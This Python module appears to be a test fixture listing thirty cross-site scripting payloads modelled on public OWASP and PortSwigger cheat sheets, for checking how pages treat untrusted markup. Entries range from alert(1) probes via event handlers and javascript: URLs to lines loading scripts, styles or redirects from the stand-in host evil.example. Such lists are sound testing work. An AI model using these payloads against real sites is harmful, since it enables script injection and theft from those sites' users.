"""Thirty texts that run, load or send something where a page takes them for markup.

After the lists that testers share (OWASP's filter evasion cheat sheet, PortSwigger's cross-site
scripting cheat sheet), with a host that does not exist.
"""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/a.png">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text x=9 y=9>go</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<object data=http://evil.example/x.swf>",
    "<embed src=http://evil.example/x.svg>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "[go](javascript:alert(1)) ![x](http://evil.example/b.png)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${alert(1)}`",
    '<form action=http://evil.example/><button formaction="javascript:alert(1)">go</button>',
)
